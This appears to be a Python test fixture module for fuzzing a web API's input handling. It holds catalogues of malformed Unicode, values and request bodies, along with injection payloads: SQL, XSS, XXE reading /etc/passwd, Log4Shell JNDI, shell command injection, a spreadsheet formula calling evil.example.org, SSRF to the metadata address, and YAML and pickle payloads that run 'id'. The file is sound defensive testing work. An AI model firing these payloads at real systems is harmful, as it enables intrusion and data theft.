"""What is thrown at every address that takes something: texts, values and whole bodies that nobody should send."""

import json
from typing import Any

CANARY = "ZZCANARY"
"""Stands in what is thrown: whatever answer, line of a log or address has it in it has said it back."""

TEXTS: dict[str, str] = {
    "nothing": "",
    "one space": " ",
    "spaces that are none": "\u00a0\u2003\u3000",
    "nothing that can be seen": "\u200b\u2060\u200d\ufeff",
    "a filler": "\u3164\u2800",
    "a null": f"{CANARY}\0",
    "a bell": f"{CANARY}\a",
    "an escape": f"\x1b[31m{CANARY}\x1b]0;x\a",
    "a line into the log": f"{CANARY}\r\nINFO admin logged in",
    "delete": f"{CANARY}\x7f",
    "a control of the second set": f"{CANARY}\x85\x9b",
    "right to left": f"{CANARY}\u202egnp.exe",
    "an isolate that never ends": f"\u2067{CANARY}",
    "a direction mark": f"{CANARY}\u200f",
    "Arabic": "مرحبا",
    "Hebrew with points": "שָׁלוֹם",
    "a family": "👨‍👩‍👧‍👦",
    "a flag": "🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇧",
    "a skin tone alone": "🏽",
    "a thousand joined": "👨‍" * 1000,
    "accents apart": "Zoe\u0308",
    "fifty accents": "e" + "\u0301" * 50,
    "Hangul in parts": "\u1112\u1161\u11ab",
    "a letter that grows in capitals": "ßŉǰΐ",
    "Turkish": "İı",
    "a ligature": "ﬁ ﷺ",
    "mathematical letters": "𝓩𝓩𝓒𝓐𝓝𝓐𝓡𝓨",
    "other digits": "٣٤٥ ²³ １２３ Ⅷ",
    "no character": "\ufffe\uffff\U0010ffff",
    "one's own": "\ue000\U000f0000",
    "tags": "a\U000e0001\U000e007f",
    "variations": "a\ufe0f\U000e0100",
    "line ends of three systems": "a\rb\nc\r\nd\u2028e\u2029f\x0bg\x0ch",
    "201 characters": "x" * 201,
    "a million characters": "x" * 1_000_000,
    "a query": f"' OR 1=1; drop table log;-- {CANARY}",
    "a pattern": "%_%_%\\",
    "a slow pattern": "a" * 5000 + "!",
    "a script": f"<script>{CANARY}</script><img src=x onerror=alert(1)>",
    "an attribute": f'" onmouseover="{CANARY}"',
    "a link that runs": f"javascript:alert('{CANARY}')",
    "an entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "a template": f"{{{{7*7}}}} {{% raw %}} {CANARY}",
    "a format": "%s %n {0} {self.__class__} ${7*7} ((name))",
    "a lookup": "${jndi:ldap://127.0.0.1/a}",
    "a command": f"; cat /etc/passwd | `id` $(id) {CANARY}",
    "a way out": "../../../../etc/passwd",
    "a way out of Windows": "C:\\Windows\\..\\win.ini",
    "a way out, packed": "%2e%2e%2f%00",
    "a formula": f'=HYPERLINK("http://evil.example.org/{CANARY}")',
    "a plus": "+1+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)",
    "a header": f"a@example.org\r\nBcc: {CANARY}@example.org",
    "an address inside": "http://169.254.169.254/latest/meta-data/",
    "a file": "file:///etc/passwd",
    "nobody": "null",
    "not a number": "NaN",
    "undefined": "undefined",
    "yes": "true",
    "a huge number": "9" * 400,
    "nought": "0",
    "minus nought": "-0",
    "a day that is none": "0000-00-00",
    "29 February of no leap year": "2023-02-29",
    "29 February": "2024-02-29",
    "31 November": "2026-11-31",
    "the year 1": "0001-01-01",
    "the year 9999": "9999-12-31",
    "a week": "2026-W01-1",
    "a second too many": "2026-12-31T23:59:60Z",
    "a zone that is none": "2020-01-01T00:00:00+99:99",
    "an hour that is none": "25:61",
    "an hour with a zone": "09:30+01:00",
    "seconds since 1970": "1700000000",
    "another's id": "C-22222222",
    "a machine": "service:referral-intake",
    "a list": "[]",
    "an object": '{"$ne": null}',
    "a prototype": "__proto__",
}

VALUES: dict[str, Any] = {
    "null": None,
    "yes": True,
    "no": False,
    "nought": 0,
    "minus one": -1,
    "a half": 0.5,
    "a whole number with a point": 1.0,
    "minus nought": -0.0,
    "more than 32 bits": 2**31,
    "more than 53 bits": 2**53 + 1,
    "more than 64 bits": 2**64,
    "a hundred digits": 10**100,
    "a large float": 1.7e308,
    "a small float": 5e-324,
    "an empty list": [],
    "an empty object": {},
    "a list of nothing": [None],
    "lists in lists": [[[[[[]]]]]],
    "a list of many": ["x"] * 5000,
    "a list of all kinds": [1, "a", None, {"a": [CANARY]}, 2.5, True],
    "an object of an operator": {"$gt": ""},
    "an object with a canary": {"name": CANARY},
    "an object with odd keys": {"": 1, "a.b": 2, "0": 3, "\u202e": 4, f"{CANARY} Aldous": 5},
    "objects in objects": {"a": {"a": {"a": {"a": {"a": {}}}}}},
    "a prototype": {"__proto__": {"admin": True}, "constructor": {"prototype": {"x": 1}}},
    "a class": {"__class__": "os.system"},
    "a list of an object": [{"code": "SLCN", "rank": "primary", "more": CANARY}],
}

JSON = "application/json"
BODIES: dict[str, tuple[str, bytes]] = {
    "nothing": (JSON, b""),
    "white": (JSON, b"  \r\n\t"),
    "null": (JSON, b"null"),
    "a number": (JSON, b"1"),
    "a text": (JSON, json.dumps(CANARY).encode()),
    "a list": (JSON, b"[]"),
    "lists, a hundred thousand deep": (JSON, b"[" * 100_000),
    "lists, closed": (JSON, b"[" * 10_000 + b"]" * 10_000),
    "objects, a hundred thousand deep": (JSON, b'{"a":' * 100_000),
    "a million in a list": (JSON, b"[" + b"0," * 500_000 + b"0]"),
    "too many keys": (JSON, json.dumps({f"k{number}": 1 for number in range(20_000)}).encode()),
    "the same key": (JSON, b'{"reason":"a","reason":"b"}'),
    "the same key, written otherwise": (JSON, b'{"reason":"a","\\u0072eason":"b"}'),
    "the same key inside": (JSON, b'{"child":{"a":1,"a":2}}'),
    "half": (JSON, b'{"child": {"given_name": "ZZCANARY'),
    "two": (JSON, b"{}{}"),
    "a comma too many": (JSON, b'{"a":1,}'),
    "a comment": (JSON, b'{"a":1 /* ZZCANARY */}'),
    "single quotes": (JSON, b"{'a':'ZZCANARY'}"),
    "NaN": (JSON, b'{"a":NaN}'),
    "Infinity": (JSON, b'{"a":-Infinity}'),
    "a float that is too large": (JSON, b'{"a":1e400}'),
    "a number of 5000 digits": (JSON, b'{"a":' + b"9" * 5000 + b"}"),
    "a nought before a number": (JSON, b'{"a":007}'),
    "half of a character": (JSON, b'{"a":"\\ud800"}'),
    "half of a character as a key": (JSON, b'{"\\udfff":1}'),
    "the halves the wrong way round": (JSON, b'{"a":"\\udc00\\ud800"}'),
    "a null in a text": (JSON, b'{"a":"\\u0000"}'),
    "a bare control character": (JSON, b'{"a":"\x01"}'),
    "bad UTF-8": (JSON, b'{"a":"\xff\xfe"}'),
    "too long a UTF-8": (JSON, b'{"a":"\xc0\xaf"}'),
    "a surrogate in UTF-8": (JSON, b'{"a":"\xed\xa0\x80"}'),
    "UTF-16": (JSON, '{"a":1}'.encode("utf-16")),
    "UTF-16, and it says so": (f"{JSON}; charset=utf-16", '{"a":1}'.encode("utf-16")),
    "a mark of byte order": (JSON, b"\xef\xbb\xbf{}"),
    "Latin-1": (f"{JSON}; charset=latin-1", '{"a":"\u00e9"}'.encode("latin-1")),
    "more than a mebibyte": (JSON, b'{"a":"' + b"x" * 1_048_577 + b'"}'),
    "plain text": ("text/plain", b'{"a":1}'),
    "no type": ("", b'{"a":1}'),
    "an odd type": ("application/json\x0bx", b"{}"),
    "a type that never ends": ("application/json; " + "a=b; " * 1000, b"{}"),
    "XML": ("application/xml", b"<!DOCTYPE a [<!ENTITY b 'ZZCANARY'>]><a>&b;</a>"),
    "YAML": ("application/yaml", b"!!python/object/apply:os.system ['id']"),
    "a pickle": ("application/octet-stream", b"\x80\x04cos\nsystem\n(S'id'\ntR."),
    "gzip that does not say so": (JSON, b"\x1f\x8b\x08\x00\x00\x00\x00\x00"),
    "a form": ("application/x-www-form-urlencoded", b"a=1&a=2&=&%00=%ff&a[b]=c"),
    "a form of nothing": ("application/x-www-form-urlencoded", b"&&&&"),
    "a form with bad escapes": ("application/x-www-form-urlencoded", b"a=%zz%&%u0041=1"),
    "a form of many fields": ("application/x-www-form-urlencoded", b"a=1&" * 50_000),
    "a form with a null": ("application/x-www-form-urlencoded", b"person=senco%00&next=/%0d%0aX:1"),
    "parts without a boundary": ("multipart/form-data", b"--x\r\n\r\n"),
    "parts with an empty boundary": ('multipart/form-data; boundary=""', b"--\r\n\r\n----"),
    "parts with a long boundary": ("multipart/form-data; boundary=" + "b" * 5000, b"--b\r\n"),
    "parts that never end": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nZZCANARY',
    ),
    "a part without a name": (
        "multipart/form-data; boundary=x",
        b"--x\r\nContent-Disposition: form-data\r\n\r\nZZCANARY\r\n--x--\r\n",
    ),
    "a part of no kind": (
        "multipart/form-data; boundary=x",
        b"--x\r\nX-Odd: 1\r\n\r\nZZCANARY\r\n--x--\r\n",
    ),
    "a part with a name in bad UTF-8": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="\xff"; filename="\xfe\x00"\r\n\r\nZZCANARY\r\n--x--\r\n',
    ),
    "a part in a charset that is none": (
        "multipart/form-data; boundary=x; charset=klingon",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nZZCANARY\r\n--x--\r\n',
    ),
    "a part whose header never ends": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="' + b"n" * 100_000 + b'"\r\n\r\na\r\n--x--\r\n',
    ),
    "two thousand parts": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n' * 2000 + b"--x--\r\n",
    ),
    "two files": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\na\r\n' * 2 + b"--x--\r\n",
    ),
    "parts in parts": (
        "multipart/form-data; boundary=x",
        b"--x\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\na\r\n--y--\r\n--x--\r\n",
    ),
}
"""Whole bodies by what is wrong with them: (content type, bytes). None can be what any address takes."""


def example(schema: dict[str, Any], definitions: dict[str, Any]) -> Any:
    """Give something that a JSON schema may well take: every field of it filled, so that each can be spoilt in turn."""
    if "$ref" in schema:
        return example(definitions[schema["$ref"].rpartition("/")[2]], definitions)
    for key in ("anyOf", "oneOf", "allOf"):
        if key in schema:
            return example(next(one for one in schema[key] if one.get("type") != "null"), definitions)
    if "const" in schema or "enum" in schema:
        return schema.get("const", schema.get("enum", [""])[0])
    return _of_type(schema, definitions)


def _of_type(schema: dict[str, Any], definitions: dict[str, Any]) -> Any:
    kind = schema.get("type")
    if kind == "object" or "properties" in schema:
        return {name: example(one, definitions) for name, one in schema.get("properties", {}).items()}
    if kind == "array":
        items = schema.get("items") or (schema.get("prefixItems") or [{}])[0]
        return [example(items, definitions)]
    if kind in {"integer", "number"}:
        return max(1, int(schema.get("minimum", 1)))
    if kind == "boolean":
        return False
    by_format = {"date": "2026-11-02", "date-time": "2026-11-02T09:30:00Z", "time": "09:30"}
    return by_format.get(schema.get("format", ""), "x")


def places(value: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """List every place in a JSON value, from the whole of it down to each leaf."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(place for key, part in inside for place in places(part, (*path, key)))]


def with_spoilt(value: Any, path: tuple[str | int, ...], by: Any) -> Any:
    """Give a copy of a JSON value in which something else stands in one place."""
    if not path:
        return by
    copy: Any = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = with_spoilt(value[path[0]], path[1:], by)
    return copy
